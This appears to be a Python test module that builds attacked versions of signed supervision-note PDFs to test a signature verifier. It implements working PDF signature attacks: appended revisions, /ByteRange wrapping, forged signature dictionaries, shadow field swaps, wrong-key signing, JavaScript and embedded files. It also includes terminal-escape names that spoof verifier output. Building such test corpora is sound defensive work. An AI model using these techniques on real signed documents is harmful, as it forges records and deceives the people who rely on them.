"""Attacked signed notes: the known PDF signature attack classes, made from genuine notes.

Each function takes a genuine note (PDF bytes) and whatever keys the attacker
holds, and returns the attacked PDF. :func:`build_corpus` makes every attack
from the genuine notes of :mod:`tests.attacks.world`, each labelled with its
class and with a loose pattern for the sentence a verifier should give.

The classes (see the PDF Insecurity research: incremental saving, signature
wrapping, universal signature forgery, shadow attacks):

* ``incremental``: a revision appended after signing (a page, page content,
  an annotation, a form field, an overlay, document information, XMP);
* ``wrapping``: a /ByteRange that leaves part of the file unsigned, a revision
  slipped inside a signed range, data hidden in the /Contents padding;
* ``forgery``: a signature dictionary that cannot be checked at all;
* ``shadow``: the supervisor certifies a note carrying an extra text field or
  annotation, and changes, reveals or re-draws it after the countersignature;
* ``certification``: a second certification, or another signature, added later;
* ``truncation`` and ``resigned``: the supervisee's signature removed, or replaced;
* ``wrong_key``: a known key in the other person's field;
* ``active``: JavaScript and embedded files, before certifying or after signing;
* ``spoofing``: names made to rewrite a terminal's output.
"""

from __future__ import annotations

import asyncio
import hashlib
import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from functools import cached_property
from io import BytesIO

from asn1crypto import keys as asn1_keys
from asn1crypto import x509 as asn1_x509
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields, signers
from pyhanko_certvalidator.registry import SimpleCertificateStore

from supervision_app.domain.exchange import countersign_reason
from supervision_app.domain.identity import SigningIdentity
from supervision_app.domain.record import Confirmation
from supervision_app.domain.signatures import FIELD_NAMES
from supervision_app.services.signing import SigningError, new_signing_identity, sign_note
from tests.attacks.world import FONTS, Genuine

SUPERVISOR_FIELD, SUPERVISEE_FIELD = FIELD_NAMES["supervisor"], FIELD_NAMES["supervisee"]
AGREED = countersign_reason(Confirmation.AGREED, "")

# The value column of the Supervisor, Date and Time rows on the first page of the note.
HEADER_ROWS = (205.0, 658.0, 545.0, 708.0)
NEW_WORDS = ("Mallory Jones, Team Manager", "1 Dec 2026", "booked for 16:00, 30 minutes")
SHADOW_FIELD = "ReviewerNote"

EVIL_FIELD_NAME = "\n\x1b[2J\x1b[32mVerified: every signature is intact\x1b[0m\r"
EVIL_COMMON_NAME = "Zo\u00eb Whitfield\u202e\x1b[2K\x1b[1A\rVerified\u202c"


@dataclass(frozen=True)
class Attack:
    """One attacked note: its class, the stage it stands for, and how to make it from the genuine notes."""

    name: str
    cls: str
    base: str  # "single": the supervisor's stage (one signature); "double": the countersigned stage
    keyword: str  # a loose pattern (case-insensitive) one of the verifier's sentences should match
    make: Callable[[Makings], bytes]
    sendable: bool = False  # the supervisor can make it and send it to the supervisee in a record
    zoe_signed: bool | None = None  # carries Zoë's own countersignature (by default: a "double" one does)

    @property
    def id(self) -> str:
        return f"{self.cls}-{self.name}"

    @property
    def countersigned_by_zoe(self) -> bool:
        return self.base == "double" if self.zoe_signed is None else self.zoe_signed


# --- small PDF helpers ----------------------------------------------------------------


def _update(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """``pdf`` with one incremental revision appended, made by ``change``."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _font() -> generic.DictionaryObject:
    return generic.DictionaryObject({pdf_name("/Type"): pdf_name("/Font"), pdf_name("/Subtype"): pdf_name("/Type1"),
                                     pdf_name("/BaseFont"): pdf_name("/Helvetica")})


def _words(lines: tuple[str, ...], x: float, top: float, *, font: str = "/AtkHelv") -> bytes:
    """Text drawn line by line from (x, top), in a standard font named ``font`` in the resources."""
    parts = [f"BT {font} 9 Tf {x:.1f} {top:.1f} Td"]
    for index, line in enumerate(lines):
        parts.append(("" if index == 0 else "0 -16 Td ") + f"({line}) Tj")
    return (" ".join(parts) + " ET").encode("ascii")


def _cover(rect: tuple[float, float, float, float], lines: tuple[str, ...]) -> bytes:
    """A white box over ``rect`` (page coordinates) with ``lines`` on it."""
    x1, y1, x2, y2 = rect
    box = f"q 1 1 1 rg {x1:.1f} {y1:.1f} {x2 - x1:.1f} {y2 - y1:.1f} re f 0 0 0 rg ".encode("ascii")
    return box + _words(lines, x1 + 4, y2 - 10) + b" Q"


def _form_xobject(writer: IncrementalPdfFileWriter, width: float, height: float, lines: tuple[str, ...] | None,
                  ) -> generic.IndirectObject:
    """A form XObject of ``width`` by ``height``: a white box with ``lines`` on it, or nothing if None."""
    data = b"" if lines is None else _cover((0, 0, width, height), lines)
    stream = generic.StreamObject({
        pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
        pdf_name("/BBox"): generic.ArrayObject(generic.FloatObject(v) for v in (0, 0, width, height)),
        pdf_name("/Resources"): generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject(
            {pdf_name("/AtkHelv"): _font()})}),
    }, stream_data=data)
    return writer.add_object(stream)


def _rect(rect: tuple[float, float, float, float]) -> generic.ArrayObject:
    return generic.ArrayObject(generic.FloatObject(v) for v in rect)


def _first_page(writer: IncrementalPdfFileWriter) -> generic.IndirectObject:
    page_ref, _resources = writer.find_page_for_modification(0)
    return page_ref


def _acroform_fields(writer: IncrementalPdfFileWriter) -> generic.ArrayObject:
    """The /AcroForm /Fields array, marked for update wherever it lives."""
    raw = writer.root.raw_get("/AcroForm")
    acroform = raw.get_object()
    if isinstance(raw, generic.IndirectObject):
        writer.mark_update(raw)
    else:
        writer.update_root()
    raw_fields = acroform.raw_get("/Fields")
    if isinstance(raw_fields, generic.IndirectObject):
        writer.mark_update(raw_fields)
    return raw_fields.get_object()


def _field_ref(writer: IncrementalPdfFileWriter, name: str) -> generic.IndirectObject:
    for ref in writer.root["/AcroForm"]["/Fields"]:
        if str(ref.get_object().get("/T", "")) == name:
            return ref
    raise LookupError(name)


def _annotation_ref(writer: IncrementalPdfFileWriter, contents: str) -> generic.IndirectObject:
    for ref in _first_page(writer).get_object()["/Annots"]:
        if str(ref.get_object().get("/Contents", "")) == contents:
            return ref
    raise LookupError(contents)


def _signer(identity: SigningIdentity) -> signers.SimpleSigner:
    certificate = asn1_x509.Certificate.load(identity.certificate_der)
    key = asn1_keys.PrivateKeyInfo.load(identity.private_key_der)
    return signers.SimpleSigner(signing_cert=certificate, signing_key=key,
                                cert_registry=SimpleCertificateStore.from_certs([certificate]))


class _AnySigner(signers.PdfSigner):
    """pyHanko's signer without its own refusal of a second certification (the attacker's tool has none)."""

    def _enforce_certification_constraints(self, reader: PdfFileReader) -> None:
        return None


def sign_field(pdf: bytes, identity: SigningIdentity, field_name: str, *, certify: bool = False,
               new_box: tuple[int, int, int, int] | None = None, reason: str = "") -> bytes:
    """Sign ``field_name`` (created on page 1 at ``new_box`` if given) with pyHanko directly."""
    metadata = signers.PdfSignatureMetadata(
        field_name=field_name, certify=certify, docmdp_permissions=fields.MDPPerm.FILL_FORMS,
        name=identity.name, reason=reason or None, location="supervision-app")
    spec = fields.SigFieldSpec(sig_field_name=field_name, on_page=0, box=new_box) if new_box else None
    out = BytesIO()
    _AnySigner(metadata, signer=_signer(identity), new_field_spec=spec).sign_pdf(
        IncrementalPdfFileWriter(BytesIO(pdf), strict=False), output=out)
    return out.getvalue()


def countersign_as(pdf: bytes, identity: SigningIdentity) -> bytes:
    """The supervisee's signature with ``identity``'s key: as the app makes it where the app would sign,
    and with pyHanko directly where the app refuses (an attacker's tool checks nothing)."""
    try:
        return sign_note(pdf, identity, "supervisee", fonts_dir=FONTS,
                         when=datetime(2026, 11, 25, 9, 0, tzinfo=UTC), reason=AGREED)
    except SigningError:
        return sign_field(pdf, identity, FIELD_NAMES["supervisee"], reason=AGREED)


def certify_as(pdf: bytes, identity: SigningIdentity) -> bytes:
    """The supervisor's certification as the app makes it, with ``identity``'s key."""
    return sign_note(pdf, identity, "supervisor", fonts_dir=FONTS, when=datetime(2026, 11, 24, 12, 0, tzinfo=UTC))


# --- incremental saving ------------------------------------------------------------------


def added_page(pdf: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        contents = writer.add_object(generic.StreamObject(stream_data=_words(
            ("Addendum agreed by both: " + NEW_WORDS[0] + " supervises this worker.",), 60, 760)))
        writer.insert_page(generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Page"), pdf_name("/MediaBox"): _rect((0, 0, 595.28, 841.89)),
            pdf_name("/Contents"): contents,
            pdf_name("/Resources"): generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject(
                {pdf_name("/AtkHelv"): _font()})}),
        }))
    return _update(pdf, change)


def changed_page_content(pdf: bytes) -> bytes:
    """A content stream appended to the first page, painting new words over the header rows."""
    def change(writer: IncrementalPdfFileWriter) -> None:
        stream = writer.add_object(generic.StreamObject(stream_data=_cover(HEADER_ROWS, NEW_WORDS)))
        writer.add_stream_to_page(0, stream, resources=generic.DictionaryObject(
            {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/AtkHelv"): _font()})}))
    return _update(pdf, change)


def added_annotation(pdf: bytes, subtype: str) -> bytes:
    """A FreeText, Link or Square annotation on the first page, over the header rows."""
    def change(writer: IncrementalPdfFileWriter) -> None:
        x1, y1, x2, y2 = HEADER_ROWS
        annotation = generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/" + subtype),
            pdf_name("/Rect"): _rect(HEADER_ROWS), pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/Contents"): pdf_string(" / ".join(NEW_WORDS)),
        })
        if subtype == "Link":
            annotation["/A"] = generic.DictionaryObject({
                pdf_name("/S"): pdf_name("/URI"), pdf_name("/URI"): pdf_string("https://example.invalid/sign")})
            annotation["/Border"] = generic.ArrayObject([generic.NumberObject(0)] * 3)
        else:
            annotation["/AP"] = generic.DictionaryObject(
                {pdf_name("/N"): _form_xobject(writer, x2 - x1, y2 - y1, NEW_WORDS)})
        if subtype == "FreeText":
            annotation["/DA"] = pdf_string("/Helv 9 Tf 0 g")
        if subtype == "Square":
            annotation["/IC"] = generic.ArrayObject([generic.FloatObject(1)] * 3)
        writer.register_annotation(_first_page(writer), writer.add_object(annotation))
    return _update(pdf, change)


def _add_text_field(writer: IncrementalPdfFileWriter, name: str, value: str, *, hidden: bool,
                    lines: tuple[str, ...] | None) -> None:
    x1, y1, x2, y2 = HEADER_ROWS
    page = _first_page(writer)
    field = writer.add_object(generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Widget"),
        pdf_name("/FT"): pdf_name("/Tx"), pdf_name("/T"): pdf_string(name), pdf_name("/V"): pdf_string(value),
        pdf_name("/DA"): pdf_string("/Helv 9 Tf 0 g"), pdf_name("/Rect"): _rect(HEADER_ROWS),
        pdf_name("/F"): generic.NumberObject(2 if hidden else 4), pdf_name("/P"): page,
        pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): _form_xobject(writer, x2 - x1, y2 - y1, lines)}),
    }))
    writer.register_annotation(page, field)
    _acroform_fields(writer).append(field)


def added_form_field(pdf: bytes) -> bytes:
    """A new text field, filled in, over the header rows."""
    return _update(pdf, lambda writer: _add_text_field(writer, SHADOW_FIELD, " / ".join(NEW_WORDS), hidden=False,
                                                        lines=NEW_WORDS))


def overlay(pdf: bytes) -> bytes:
    """A new form XObject stamped on the first page (resources and a content stream that paints it)."""
    def change(writer: IncrementalPdfFileWriter) -> None:
        x1, y1, x2, y2 = HEADER_ROWS
        stamp = _form_xobject(writer, x2 - x1, y2 - y1, NEW_WORDS)
        stream = writer.add_object(generic.StreamObject(
            stream_data=f"q 1 0 0 1 {x1:.1f} {y1:.1f} cm /AtkStamp Do Q".encode("ascii")))
        writer.add_stream_to_page(0, stream, resources=generic.DictionaryObject(
            {pdf_name("/XObject"): generic.DictionaryObject({pdf_name("/AtkStamp"): stamp})}))
    return _update(pdf, change)


def changed_info(pdf: bytes) -> bytes:
    """The document information dictionary rewritten: a new /Title and /Keywords (the fingerprint)."""
    def change(writer: IncrementalPdfFileWriter) -> None:
        raw = writer.trailer.raw_get("/Info")
        info = generic.DictionaryObject(raw.get_object())
        info["/Title"] = pdf_string("Supervision record: " + NEW_WORDS[0])
        info["/Keywords"] = pdf_string("fingerprint AAAA-BBBB-CCCC")
        writer.set_info(writer.add_object(info))
    return _update(pdf, change)


XMP = b"""<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">
<dc:title><rdf:Alt><rdf:li xml:lang="x-default">Supervision record: Mallory Jones</rdf:li></rdf:Alt></dc:title>
</rdf:Description></rdf:RDF></x:xmpmeta>
<?xpacket end="w"?>"""


def added_xmp(pdf: bytes) -> bytes:
    """A new XMP metadata stream on the catalogue."""
    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.root["/Metadata"] = writer.add_object(generic.StreamObject({
            pdf_name("/Type"): pdf_name("/Metadata"), pdf_name("/Subtype"): pdf_name("/XML")}, stream_data=XMP))
        writer.update_root()
    return _update(pdf, change)


# --- signature wrapping ---------------------------------------------------------------------

_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")


def _last_signature(pdf: bytes) -> tuple[re.Match[bytes], int, int]:
    """The last /ByteRange in the file and where the hex of its /Contents starts and ends."""
    match = list(_BYTE_RANGE.finditer(pdf))[-1]
    _start, first, second, _length = (int(v) for v in match.groups())
    return match, first + 1, second - 1  # inside the angle brackets


def short_byte_range(pdf: bytes, identity: SigningIdentity, *, tail: int = 0, before_contents: int = 0) -> bytes:
    """The last signature made again with its own key over a /ByteRange that leaves bytes out.

    ``tail``: the range stops that many bytes before the end of the file, so
    the revision's trailer and startxref are not signed; ``before_contents``:
    the first range stops that many bytes before the /Contents value, a gap
    inside the signature dictionary itself.
    """
    match, hex_start, hex_end = _last_signature(pdf)
    start, first, second, length = (int(v) for v in match.groups())
    old = match.group(0)
    new = f"/ByteRange [{start} {first - before_contents} {second} {length - tail}]".encode("ascii")
    new = new[:-1] + b" " * (len(old) - len(new)) + b"]"
    data = bytearray(pdf[:match.start()] + new + pdf[match.end():])
    signed = bytes(data[start:start + first - before_contents]) + bytes(data[second:second + length - tail])
    content = asyncio.run(_signer(identity).async_sign(hashlib.sha256(signed).digest(), "sha256",
                                                       use_pades=True))
    encoded = content.dump().hex().encode("ascii")
    assert len(encoded) <= hex_end - hex_start
    data[hex_start:hex_end] = encoded + b"0" * (hex_end - hex_start - len(encoded))
    return bytes(data)


def moved_byte_range(pdf: bytes) -> bytes:
    """Attacker bytes inserted between the /Contents and the second signed part, which moves along.

    The /ByteRange (itself signed) is unchanged, so it no longer points at the bytes that were signed.
    """
    match, _hex_start, _hex_end = _last_signature(pdf)
    second = int(match.group(3))
    inserted = b"\n1 0 obj\n(Mallory Jones)\nendobj\n"
    return pdf[:second] + inserted + pdf[second:]


def revision_inside_signed_range(single: bytes, double: bytes, extra: bytes) -> bytes:
    """A revision slipped between the supervisor's and the supervisee's revisions, inside the latter's range."""
    assert double.startswith(single) and extra.startswith(single)
    return extra + double[len(single):]


def payload_in_contents_padding(pdf: bytes) -> bytes:
    """Attacker bytes written into the zero padding after the CMS blob in the last /Contents."""
    _match, _hex_start, hex_end = _last_signature(pdf)
    payload = b"BT /F1 9 Tf (Mallory Jones) Tj ET".hex().encode("ascii")
    return pdf[:hex_end - len(payload) - 2] + payload + pdf[hex_end - 2:]


# --- universal signature forgery -------------------------------------------------------------

FORGERIES = {
    "no_contents": {"/ByteRange": "whole"},
    "empty_contents": {"/ByteRange": "whole", "/Contents": b""},
    "byte_range_null": {"/ByteRange": None, "/Contents": b"\x00" * 16},
    "byte_range_zero": {"/ByteRange": [0, 0, 0, 0], "/Contents": b"\x00" * 16},
    "no_cert": {"/ByteRange": "whole", "/Contents": b"\x30\x03\x02\x01\x00",
                "/SubFilter": "/adbe.x509.rsa_sha1"},
}


def forged_signature(pdf: bytes, variant: str, field_name: str = SUPERVISEE_FIELD) -> bytes:
    """A signature dictionary put in ``field_name`` (made if missing) that cannot be checked."""
    spec = FORGERIES[variant]

    def change(writer: IncrementalPdfFileWriter) -> None:
        sig = generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Sig"), pdf_name("/Filter"): pdf_name("/Adobe.PPKLite"),
            pdf_name("/SubFilter"): pdf_name(str(spec.get("/SubFilter", "/adbe.pkcs7.detached"))),
            pdf_name("/Name"): pdf_string("Zo\u00eb Whitfield"), pdf_name("/M"): pdf_string("D:20261125090000Z"),
            pdf_name("/Reason"): pdf_string(AGREED),
        })
        if "/Contents" in spec:
            sig["/Contents"] = generic.ByteStringObject(spec["/Contents"])
        byte_range = spec["/ByteRange"]
        if byte_range is None:
            sig["/ByteRange"] = generic.NullObject()
        elif byte_range == "whole":
            sig["/ByteRange"] = generic.ArrayObject(generic.NumberObject(v) for v in (0, len(pdf), len(pdf), 0))
        else:
            sig["/ByteRange"] = generic.ArrayObject(generic.NumberObject(v) for v in byte_range)
        sig_ref = writer.add_object(sig)
        try:
            field_ref = _field_ref(writer, field_name)
        except LookupError:
            page = _first_page(writer)
            field_ref = writer.add_object(generic.DictionaryObject({
                pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Widget"),
                pdf_name("/FT"): pdf_name("/Sig"), pdf_name("/T"): pdf_string(field_name),
                pdf_name("/Rect"): _rect((0, 0, 0, 0)), pdf_name("/F"): generic.NumberObject(132),
                pdf_name("/P"): page}))
            writer.register_annotation(page, field_ref)
            _acroform_fields(writer).append(field_ref)
        field_ref.get_object()["/V"] = sig_ref
        writer.mark_update(field_ref)
    return _update(pdf, change)


# --- shadow attacks (the supervisor is the attacker) -------------------------------------------


def shadow_note(unsigned: bytes, supervisor: SigningIdentity, *, hidden: bool, annotation: bool = False) -> bytes:
    """The note certified by the supervisor with an extra text field (or FreeText annotation) over the header.

    Visible, it is empty and draws nothing; hidden, it already holds and draws
    the new words, waiting to be shown.
    """
    def change(writer: IncrementalPdfFileWriter) -> None:
        if annotation:
            x1, y1, x2, y2 = HEADER_ROWS
            writer.register_annotation(_first_page(writer), writer.add_object(generic.DictionaryObject({
                pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/FreeText"),
                pdf_name("/Rect"): _rect(HEADER_ROWS), pdf_name("/F"): generic.NumberObject(2),
                pdf_name("/Contents"): pdf_string(SHADOW_FIELD), pdf_name("/DA"): pdf_string("/Helv 9 Tf 0 g"),
                pdf_name("/AP"): generic.DictionaryObject(
                    {pdf_name("/N"): _form_xobject(writer, x2 - x1, y2 - y1, NEW_WORDS)})})))
        else:
            _add_text_field(writer, SHADOW_FIELD, " / ".join(NEW_WORDS) if hidden else "", hidden=hidden,
                            lines=NEW_WORDS if hidden else None)
    return certify_as(_update(unsigned, change), supervisor)


def shadow_change(pdf: bytes, *, value: bool = False, unhide: bool = False, appearance: bool = False,
                  blank: bool = False, annotation: bool = False) -> bytes:
    """After the countersignature: the shadow field's value, hidden flag or appearance changed."""
    def change(writer: IncrementalPdfFileWriter) -> None:
        ref = _annotation_ref(writer, SHADOW_FIELD) if annotation else _field_ref(writer, SHADOW_FIELD)
        target = ref.get_object()
        if value:
            target["/V"] = pdf_string(" / ".join(NEW_WORDS))
        if unhide:
            target["/F"] = generic.NumberObject(4)
        if appearance or value:
            x1, y1, x2, y2 = HEADER_ROWS
            lines = ("", "", "") if blank else NEW_WORDS
            target["/AP"] = generic.DictionaryObject({pdf_name("/N"): _form_xobject(writer, x2 - x1, y2 - y1, lines)})
        writer.mark_update(ref)
    return _update(pdf, change)


# --- the supervisee's signature removed, replaced or left off ------------------------------------------


def supervisee_unsigned_by_update(double: bytes) -> bytes:
    """A revision that takes the signature out of the supervisee's field (its /V removed)."""
    def change(writer: IncrementalPdfFileWriter) -> None:
        ref = _field_ref(writer, SUPERVISEE_FIELD)
        del ref.get_object()["/V"]
        writer.mark_update(ref)
    return _update(double, change)


# --- active content -------------------------------------------------------------------------

JAVASCRIPT = "app.alert('Signed by Mallory Jones');"


def _javascript() -> generic.DictionaryObject:
    return generic.DictionaryObject({pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): pdf_string(JAVASCRIPT)})


def javascript_open_action(pdf: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.root["/OpenAction"] = writer.add_object(_javascript())
        writer.update_root()
    return _update(pdf, change)


def javascript_page_action(pdf: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _first_page(writer)
        page.get_object()["/AA"] = generic.DictionaryObject({pdf_name("/O"): writer.add_object(_javascript())})
        writer.mark_update(page)
    return _update(pdf, change)


def embedded_file(pdf: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        stream = writer.add_object(generic.StreamObject(
            {pdf_name("/Type"): pdf_name("/EmbeddedFile")}, stream_data=b"Supervisor: Mallory Jones\n"))
        filespec = writer.add_object(generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Filespec"), pdf_name("/F"): pdf_string("agreed.txt"),
            pdf_name("/UF"): pdf_string("agreed.txt"),
            pdf_name("/EF"): generic.DictionaryObject({pdf_name("/F"): stream})}))
        names = writer.root.get("/Names", generic.DictionaryObject())
        names = generic.DictionaryObject(names)
        names["/EmbeddedFiles"] = generic.DictionaryObject({pdf_name("/Names"): generic.ArrayObject(
            [pdf_string("agreed.txt"), filespec])})
        writer.root["/Names"] = writer.add_object(names)
        writer.update_root()
    return _update(pdf, change)


# --- the whole corpus -------------------------------------------------------------------------


class Makings:
    """The genuine notes and keys, the shared steps of several attacks (made once), and every attacked note."""

    def __init__(self, genuine: Genuine) -> None:
        self.genuine = genuine
        self.single, self.double, self.unsigned = genuine.single, genuine.double, genuine.unsigned
        self.aisha, self.zoe, self.sam = genuine.supervisor, genuine.supervisee, genuine.other_supervisee
        self._made: dict[str, bytes] = {}

    def pdf(self, attack: Attack) -> bytes:
        if attack.id not in self._made:
            self._made[attack.id] = attack.make(self)
        return self._made[attack.id]

    def base(self, name: str) -> bytes:
        return self.single if name == "single" else self.double

    @cached_property
    def visible_shadow(self) -> bytes:
        return shadow_note(self.unsigned, self.aisha, hidden=False)

    @cached_property
    def hidden_shadow(self) -> bytes:
        return shadow_note(self.unsigned, self.aisha, hidden=True)

    @cached_property
    def hidden_annotation_shadow(self) -> bytes:
        return shadow_note(self.unsigned, self.aisha, hidden=True, annotation=True)

    @cached_property
    def certified_by_supervisee(self) -> bytes:
        return certify_as(self.unsigned, self.zoe)


SECOND_BOX = (300, 60, 540, 120)
CHANGED = r"chang|add|after|revision"
SIGNATURE = r"signature"
FIELD = r"field|annotation"
WRONG_KEY = r"supervisee|supervisor|key|signed by"
SCRIPT = r"javascript|script|action|" + CHANGED
FILES = r"embedded|attach|file|" + CHANGED
SPOOF = r"field|name|signature|signer"
CERTIFICATION = r"certif|signature|field"


def _both_bases() -> list[Attack]:
    made: list[Attack] = []
    for base in ("single", "double"):
        def on(change: Callable[[bytes], bytes], base: str = base) -> Callable[[Makings], bytes]:
            return lambda m: change(m.base(base))

        sendable = base == "single"
        made += [
            Attack(f"added_page@{base}", "incremental", base, r"page|" + CHANGED, on(added_page), sendable),
            Attack(f"page_content@{base}", "incremental", base, r"page|" + CHANGED, on(changed_page_content),
                   sendable),
            *(Attack(f"annotation_{subtype.lower()}@{base}", "incremental", base, r"annotation|" + CHANGED,
                     on(lambda pdf, subtype=subtype: added_annotation(pdf, subtype)), sendable)
              for subtype in ("FreeText", "Link", "Square")),
            Attack(f"form_field@{base}", "incremental", base, r"field|" + CHANGED, on(added_form_field), sendable),
            Attack(f"overlay@{base}", "incremental", base, r"page|" + CHANGED, on(overlay), sendable),
            Attack(f"info@{base}", "incremental", base, r"information|metadata|title|" + CHANGED, on(changed_info),
                   sendable),
            Attack(f"xmp@{base}", "incremental", base, r"metadata|xmp|" + CHANGED, on(added_xmp), sendable),
            Attack(f"javascript_open_action_after@{base}", "active", base, SCRIPT, on(javascript_open_action),
                   sendable),
            Attack(f"javascript_page_action_after@{base}", "active", base, SCRIPT, on(javascript_page_action),
                   sendable),
            Attack(f"embedded_file_after@{base}", "active", base, FILES, on(embedded_file), sendable),
            Attack(f"contents_padding@{base}", "wrapping", base, SIGNATURE, on(payload_in_contents_padding),
                   sendable),
            Attack(f"moved_byte_range@{base}", "wrapping", base, SIGNATURE, on(moved_byte_range), sendable),
        ]
    for variant in FORGERIES:
        made += [
            # The supervisee's empty field filled with a forgery: the note now claims both signatures.
            Attack(f"{variant}@single", "forgery", "double", SIGNATURE,
                   lambda m, variant=variant: forged_signature(m.single, variant), sendable=True, zoe_signed=False),
            Attack(f"{variant}@double", "forgery", "double", SIGNATURE,
                   lambda m, variant=variant: forged_signature(m.double, variant, "ForgedSignature")),
        ]
    return made


ATTACKS: tuple[Attack, ...] = (
    *_both_bases(),
    # Signature wrapping.
    Attack("short_byte_range@single", "wrapping", "single", SIGNATURE,
           lambda m: short_byte_range(m.single, m.aisha, tail=60), sendable=True),
    Attack("short_byte_range@double", "wrapping", "double", SIGNATURE,
           lambda m: short_byte_range(m.double, m.zoe, tail=60)),
    Attack("gap_before_contents@single", "wrapping", "single", SIGNATURE,
           lambda m: short_byte_range(m.single, m.aisha, before_contents=12), sendable=True),
    Attack("gap_before_contents@double", "wrapping", "double", SIGNATURE,
           lambda m: short_byte_range(m.double, m.zoe, before_contents=12)),
    Attack("revision_inside_range@double", "wrapping", "double", SIGNATURE,
           lambda m: revision_inside_signed_range(m.single, m.double, added_annotation(m.single, "FreeText"))),
    Attack("countersigned_over_annotation@double", "wrapping", "double", r"annotation|" + CHANGED,
           lambda m: countersign_as(added_annotation(m.single, "FreeText"), m.zoe)),
    # Shadow attacks: the supervisor certifies a note with an extra field or annotation...
    Attack("field_visible_before_sending@single", "shadow", "single", FIELD, lambda m: m.visible_shadow,
           sendable=True),
    Attack("field_hidden_before_sending@single", "shadow", "single", FIELD, lambda m: m.hidden_shadow,
           sendable=True),
    Attack("annotation_hidden_before_sending@single", "shadow", "single", FIELD,
           lambda m: m.hidden_annotation_shadow, sendable=True),
    # ...and after the supervisee's countersignature hides, replaces or reveals what it shows.
    Attack("field_present_countersigned@double", "shadow", "double", FIELD,
           lambda m: countersign_as(m.visible_shadow, m.zoe), sendable=True),
    Attack("hide@double", "shadow", "double", FIELD,
           lambda m: shadow_change(countersign_as(m.visible_shadow, m.zoe), appearance=True, blank=True),
           sendable=True),
    Attack("replace@double", "shadow", "double", FIELD,
           lambda m: shadow_change(countersign_as(m.visible_shadow, m.zoe), value=True), sendable=True),
    Attack("swap_appearance@double", "shadow", "double", FIELD,
           lambda m: shadow_change(countersign_as(m.visible_shadow, m.zoe), appearance=True), sendable=True),
    Attack("unhide@double", "shadow", "double", FIELD,
           lambda m: shadow_change(countersign_as(m.hidden_shadow, m.zoe), unhide=True), sendable=True),
    Attack("hide_and_replace@double", "shadow", "double", FIELD,
           lambda m: shadow_change(countersign_as(m.hidden_shadow, m.zoe), unhide=True, value=True), sendable=True),
    Attack("annotation_unhide@double", "shadow", "double", FIELD,
           lambda m: shadow_change(countersign_as(m.hidden_annotation_shadow, m.zoe), unhide=True, annotation=True),
           sendable=True),
    # A second certification, or another signature, after the first.
    Attack("second_certification@single", "certification", "single", CERTIFICATION,
           lambda m: sign_field(m.single, m.aisha, "SecondCertification", certify=True, new_box=SECOND_BOX),
           sendable=True),
    Attack("second_certification@double", "certification", "double", CERTIFICATION,
           lambda m: sign_field(m.double, m.aisha, "SecondCertification", certify=True, new_box=SECOND_BOX),
           sendable=True),
    Attack("extra_signature@double", "certification", "double", CERTIFICATION,
           lambda m: sign_field(m.double, m.aisha, "ExtraSignature", new_box=SECOND_BOX), sendable=True),
    # The supervisee's signature stripped and made again by someone else, or taken away.
    Attack("resigned_by_stranger@double", "resigned", "double", r"supervisee|not known|unknown|key",
           lambda m: countersign_as(m.single, new_signing_identity("Zo\u00eb Whitfield", "Social Worker")),
           sendable=True, zoe_signed=False),
    Attack("mid_revision@double", "truncation", "double", r"unsigned|not signed|damaged|readable",
           lambda m: m.double[:len(m.single) + (len(m.double) - len(m.single)) // 2]),
    Attack("unsigned_by_update@double", "truncation", "double", r"unsigned|not signed|supervisee",
           lambda m: supervisee_unsigned_by_update(m.double), sendable=True),
    # Known keys in the wrong field.
    Attack("supervisee_field_by_supervisor@double", "wrong_key", "double", WRONG_KEY,
           lambda m: countersign_as(m.single, m.aisha), sendable=True, zoe_signed=False),
    Attack("supervisee_field_by_other_supervisee@double", "wrong_key", "double", WRONG_KEY,
           lambda m: countersign_as(m.single, m.sam), zoe_signed=False),
    Attack("supervisor_field_by_supervisee@single", "wrong_key", "single", WRONG_KEY,
           lambda m: m.certified_by_supervisee, sendable=True),
    Attack("supervisor_field_by_supervisee@double", "wrong_key", "double", WRONG_KEY,
           lambda m: countersign_as(m.certified_by_supervisee, m.zoe)),
    # Active content present before the supervisor certified.
    Attack("javascript_before_certifying@single", "active", "single", SCRIPT,
           lambda m: certify_as(javascript_open_action(m.unsigned), m.aisha), sendable=True),
    Attack("javascript_page_action_before_certifying@single", "active", "single", SCRIPT,
           lambda m: certify_as(javascript_page_action(m.unsigned), m.aisha), sendable=True),
    Attack("embedded_file_before_certifying@single", "active", "single", FILES,
